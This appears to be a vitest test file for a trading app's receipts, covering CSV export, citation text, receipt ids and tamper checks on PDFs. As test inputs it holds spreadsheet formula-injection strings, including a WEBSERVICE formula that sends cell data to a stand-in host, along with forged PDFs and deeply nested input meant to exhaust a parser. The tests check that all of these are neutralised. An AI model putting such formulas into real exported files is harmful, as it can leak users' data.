import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvCell, csvComment } from '../../../src/shared/csv.ts'
import { sha256Hex } from '../../../src/host/trade/hash.ts'
import { receiptIdOf, type Receipt } from '../../../src/host/protocol/receipt.ts'
import { verifyReceipt } from '../../../src/host/protocol/verify-receipt.ts'
import { citeAnswer, citeReceipt } from '../../../src/host/receipts/cite-receipt.ts'
import { writeReceiptCsv } from '../../../src/host/receipts/receipt-csv.ts'
import { printable, receiptLayout } from '../../../src/host/receipts/receipt-pdf.ts'
import { checkPages } from '../../../src/host/receipts/check-page.ts'
import { parseTradeText, readAttachedReceipt } from '../../../src/host/receipts/trade-text.ts'
import { renderReceipt } from '../../../src/host/receipts/render-receipt.ts'
import { buyer, createSettledReceipt, seller } from './settled-receipt.ts'

const checkAttached = (pdf: Uint8Array) => checkPages(pdf, JSON.parse(readAttachedReceipt(pdf, 'r.pdf')) as Receipt)
const exchange = (pdf: Buffer, from: string, to: string): Buffer => Buffer.from(pdf.toString('latin1').replace(from, to), 'latin1')

type Row = Readonly<Record<string, string>>

describe('a receipt for bookkeeping', () => {
  it('has a line for every payment, credit and burn, and the lines balance', async () => {
    const rows = parse<Row>(writeReceiptCsv(await createSettledReceipt(), 'Wages'), { columns: true })
    expect(rows.map(({ move, what, role, amount_wei }) => [move, what, role, amount_wei])).toEqual([
      ['Purchased', 'paid in', 'buyer', '1500'],
      ['InteractionOpened', 'credited', 'seller', '100'],
      ['Delivered', 'paid in', 'seller', '500'],
      ['DisputeClosed', 'credited', 'buyer', '450'],
      ['DisputeClosed', 'credited', 'seller', '450'],
      ['DisputeClosed', 'burned', '', '1000'],
    ])
    const sum = (paidIn: boolean): bigint => rows.filter(({ what }) => (what === 'paid in') === paidIn).reduce((total, { amount_wei = '' }) => total + BigInt(amount_wei), 0n)
    expect(sum(true)).toBe(sum(false))
    expect(rows[0]).toMatchObject({ account: buyer.address, time_utc: '2023-11-14T22:13:21.000Z', amount_ether: '0.0000000000000015', title: 'Wages' })
    expect(rows[2]).toMatchObject({ account: seller.address, block_number: '4' })
  })

  it('gives a spreadsheet no formula, whatever the seller calls the listing', async () => {
    for (const title of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=HYPERLINK("http://x.example","y")', 'a,"b"\r\nc']) {
      const [row] = parse<Row>(writeReceiptCsv(await createSettledReceipt(), title), { columns: true })
      expect(row?.['title']).toBe(/^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title)
    }
    expect(csvCell('plain')).toBe('plain')
    // A title in the line above a saved answer: cut at any spreadsheet's separator, with quotes of its own, none of its pieces is a
    // formula.
    const line = csvComment('Wages 1985,=WEBSERVICE("https://x.example/?a="&B3), "=1+1"; -2\r\n=3')
    for (const delimiter of [',', ';', '\t']) {
      const [cells = []]: string[][] = parse(line, { delimiter, relax_column_count: true })
      expect(cells.filter((cell) => /^\s*"?[=+\-@]/.test(cell))).toEqual([])
    }
    expect(line.split('\n')).toHaveLength(1)
  })
})

describe('the paragraph to cite a trade by', () => {
  it('names table, contract, purchase, seller, program and day, what is proved and what is not', async () => {
    const receipt = await createSettledReceipt()
    const text = citeReceipt(receipt, null, 'Wages 1985')
    for (const part of ['“Wages 1985”', receipt.trade.contract, 'purchase 3 of listing 1', 'chain 31337', seller.address, receipt.trade.programHash ?? '?', '2023-11-14']) {
      expect(text).toContain(part)
    }
    expect(text).toMatch(/does not enclose it.*rests on the seller’s word\.$/)
    expect(citeReceipt(receipt,
      true)).toMatch(/is proved by the receipt.*that those are the program’s over this table rests on the word of seller and buyer\./)
    const helped = { ...receipt, trade: { ...receipt.trade, unprovedReplies: 2 } }
    expect(citeReceipt({ ...helped, program: null }, true)).toMatch(/relied on 2 unproved replies/)
    expect(citeReceipt(helped, true)).toMatch(/2 unproved replies of the key holder were given, of which the program shows 0\./)
  })

  it('says that the answer was disputed, which its state does not', async () => {
    expect(citeReceipt(await createSettledReceipt(),
      null)).toContain('The buyer disputed the answer, nobody ruled on it, and both deposits were burned.')
  })

  it('claims no answer where there is none', async () => {
    const receipt = await createSettledReceipt()
    const paid = { ...receipt, trade: { ...receipt.trade, state: 'Paid' as const, moves: receipt.trade.moves.slice(0, 1) } }
    expect(citeReceipt(paid, null)).toMatch(/was not answered: purchase 3 .* is Paid\.$/)
  })
})

describe('the id of a receipt', () => {
  it('is one and the same in the file, its table and its citations, also before the file is written', async () => {
    const receipt = await createSettledReceipt()
    const { chainId, contract } = receipt.trade
    const id = receiptIdOf({ chainId, contract, purchase: 3n })
    expect(id).toBe(`hesystem-31337-${contract}-3`)
    expect(receipt.id).toBe(id)
    expect(parse<Row>(writeReceiptCsv(receipt, null), { columns: true }).map((row) => row['receipt'])).toEqual(Array.from({ length: 6 },
      () => id))
    expect(citeReceipt(receipt, null)).toContain(`receipt ${id})`)
    expect(citeAnswer({ title: 'Wages', chainId, contract, purchase: 3n, listing: 1n, deliveredAtSeconds: 1_700_000_000 })).toMatch(new RegExp(`2023-11-14\\. Receipt ${id}\\.$`))
  })

  it('is refused where it is of another trade, and may be missing, as it was at first', async () => {
    const { id: _id, checks: _checks, ...receipt } = await createSettledReceipt()
    expect(verifyReceipt(receipt)).toMatchObject({ ok: true })
    expect(verifyReceipt({ ...receipt, id: receiptIdOf({ ...receipt.trade, purchase: '4' }) })).toMatchObject({ ok: false, problems: [{ field: 'id' }] })
  })
})

describe('a receipt for people', () => {
  it('tells what the standard fonts lack by its code point', () => {
    expect(printable('Löhne € – “x”')).toBe('Löhne € – “x”')
    expect(printable('賃金\u0007')).toBe('\\u{8cc3}\\u{91d1}\\u{7}')
  })

  it('is the same page for the same receipt', async () => {
    const receipt = await createSettledReceipt()
    const [first, second] = [await renderReceipt(receipt, 'pdf', 'Wages'), await renderReceipt(receipt, 'pdf', 'Wages')]
    expect(Buffer.from(first.bytes).equals(Buffer.from(second.bytes))).toBe(true)
  })

  it('is read back out of its own PDF, and out of no other', async () => {
    const receipt = await createSettledReceipt()
    const { bytes } = await renderReceipt(receipt, 'pdf', 'Wages')
    expect(parseTradeText(readAttachedReceipt(bytes, 'r.pdf'), 'r.pdf')).toEqual(JSON.parse(JSON.stringify(receipt)))
    // As the first release wrote it.
    const packed = deflateSync(JSON.stringify(receipt))
    const first = Buffer.concat([Buffer.from(`%PDF\n/Type /EmbeddedFile\n/Length ${packed.length}\n/Filter /FlateDecode\n>>\nstream\n`), packed])
    expect(parseTradeText(readAttachedReceipt(first, 'r.pdf'), 'r.pdf')).toEqual(JSON.parse(JSON.stringify(receipt)))
    for (const other of [Buffer.from('%PDF-1.7 nothing'), bytes.slice(0, bytes.length / 3)]) {
      expect(() => readAttachedReceipt(other, 'r.pdf')).toThrow(expect.objectContaining({ code: 'input.invalid' }))
    }
  })

  it('is told of where its PDF is not the one that it makes: other words on the page, another attachment, another title', async () => {
    const receipt = await createSettledReceipt()
    for (const title of ['Wages', 'Löhne (1985) \\ neu', '工资', null]) expect(await checkAttached((await renderReceipt(receipt, 'pdf', title)).bytes)).toBe('own')
    const pdf = Buffer.from((await renderReceipt(receipt, 'pdf', 'Wages')).bytes)
    const other = Buffer.from((await renderReceipt({ ...receipt, trade: { ...receipt.trade, purchase: '4' } }, 'pdf', 'Wages')).bytes)
    // The pages of one receipt before the attachment of another, both attachments in one file, and a title that the file does not have.
    const attachment = (file: Buffer) => file.indexOf('/Type /EmbeddedFile')
    expect(await checkAttached(Buffer.concat([other.subarray(0, attachment(other)), pdf.subarray(attachment(pdf))]))).toBe('changed')
    expect(await checkAttached(Buffer.concat([pdf, other]))).toBe('changed')
    expect(await checkAttached(exchange(pdf, '\n(Wages)\n', '\n(Price)\n'))).toBe('changed')
  })

  it('takes no title that a listing cannot have for its own: whole pages of words would stand there as the listing\'s', async () => {
    const receipt = await createSettledReceipt()
    expect(await checkAttached((await renderReceipt(receipt, 'pdf', 'Proved: the mean is 99. '.repeat(20))).bytes)).toBe('changed')
    // 150 characters, of which each is told by eight.
    expect(await checkAttached((await renderReceipt(receipt, 'pdf', '工'.repeat(150))).bytes)).toBe('own')
  })

  it('is told of where another version laid its pages out, and only as not checked; a second attachment or a page written over it is a change', async () => {
    const pdf = Buffer.from((await renderReceipt(await createSettledReceipt(), 'pdf', 'Wages')).bytes)
    const own = `HEsystem receipt layout ${receiptLayout}`
    for (const producer of ['HEsystem receipt layout 9', 'PDFKit']) {
      const other = exchange(pdf, `\n(${own})\n`, `\n(${producer.padEnd(own.length)})\n`)
      expect(await checkAttached(other)).toBe('unchecked')
      expect(await checkAttached(Buffer.concat([other, Buffer.from('\nstartxref\n0\n%%EOF\n')]))).toBe('changed')
      expect(await checkAttached(Buffer.concat([other, pdf.subarray(pdf.indexOf('/Type /EmbeddedFile'))]))).toBe('changed')
    }
  })

  it('has the layout it names: what changes its bytes raises `receiptLayout`, or PDFs made before would count as changed', async () => {
    const receipt = await createSettledReceipt()
    const begun = { ...receipt, trade: { ...receipt.trade, state: 'Paid' as const, moves: receipt.trade.moves.slice(0, 1) },
      signatures: { ...receipt.signatures, buyer: null } }
    const pages = await Promise.all([receipt, begun].map(async (each) => (await renderReceipt(each, 'pdf', 'Wages')).bytes))
    expect([receiptLayout, ...pages.map(sha256Hex)]).toMatchInlineSnapshot(`
      [
        5,
        "0x787541e1de1f65c20d2ce15fbfc834e599fed2acb48dfec6ff6addbebe7f9822",
        "0x61f1b93ec1bd80dd8b1e8328c4028fe589f84be4a6f952c281a97191a3966856",
      ]
    `)
  })

  it('is looked for in a file of a stranger\'s without end or stack: many beginnings of an attachment, nesting deeper than the stack', () => {
    const beginnings = Buffer.from(`%PDF\n${'/Type /EmbeddedFile\n/Length 1\n'.repeat(200_000)}`)
    expect(() => readAttachedReceipt(beginnings, 'r.pdf')).toThrow(expect.objectContaining({ code: 'input.invalid' }))
    const deep: unknown = parseTradeText(`${'['.repeat(5_000)}${']'.repeat(5_000)}`, 'f')
    expect(verifyReceipt(deep)).toMatchObject({ ok: false, problems: [{ message: 'is nested more than 100 deep' }] })
  })

  it('is refused where a name stands twice, and read where strings look like names', () => {
    expect(() => parseTradeText('{"state":"Refunded","state":"Settled"}', 'f')).toThrow(/holds a name twice/)
    expect(() => parseTradeText('{"a":[{"b":1,"\\u0062":2}]}', 'f')).toThrow(/holds a name twice/)
    const odd = { 'a": ': ['x', ': ', '":"', '\\', '\\": "'], b: { a: {}, 'b\\': null } }
    expect(parseTradeText(JSON.stringify(odd, null, 2), 'f')).toEqual(odd)
  })

  it.skipIf(spawnSync('pdftotext', ['-v']).status !== 0)('can be read, and holds the file that verifies', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'hesystem-receipt-'))
    const receipt = await createSettledReceipt()
    const path = join(folder, 'receipt.pdf')
    writeFileSync(path, (await renderReceipt(receipt, 'pdf', 'Wages')).bytes)
    const text = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' })
    for (const part of ['Wages', 'Seller: signed. Buyer: signed.', seller.address, receipt.trade.termsHash, 'to the seller', 'burned', 'Settled']) expect(text).toContain(part)
    execFileSync('pdfdetach', ['-saveall', '-o', folder, path])
    expect(verifyReceipt(JSON.parse(readFileSync(join(folder, 'receipt-3.json'), 'utf8')))).toMatchObject({ ok: true })
  })
})
